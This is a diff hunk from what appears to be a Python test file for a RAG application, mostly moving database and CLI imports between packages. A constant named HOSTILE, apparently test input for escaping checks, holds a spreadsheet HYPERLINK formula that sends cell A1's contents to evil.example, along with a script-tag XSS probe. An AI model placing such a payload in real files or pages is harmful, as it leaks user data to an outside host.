@@ -23,14 +23,14 @@ from test_app import app
 from test_app_access import log_in, team  # noqa: F401 - a fixture
 from test_app_flows import button
 
-from rag.appdb import open_app_db
-from rag.appdb.feedback import REMEMBERED, FeedbackMissing
-from rag.appdb.schema import SCHEMA_VERSION
-from rag.cli import main
+from cli.rag_main import main
 from rag.errors import RagError
 from rag.evaluation import load_dataset
 from rag.settings import Settings
 from rag.types import Answer
+from team.appdb import open_app_db
+from team.appdb.feedback import REMEMBERED, FeedbackMissing
+from team.appdb.schema import SCHEMA_VERSION
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click") <script>alert(1)</script>'
 
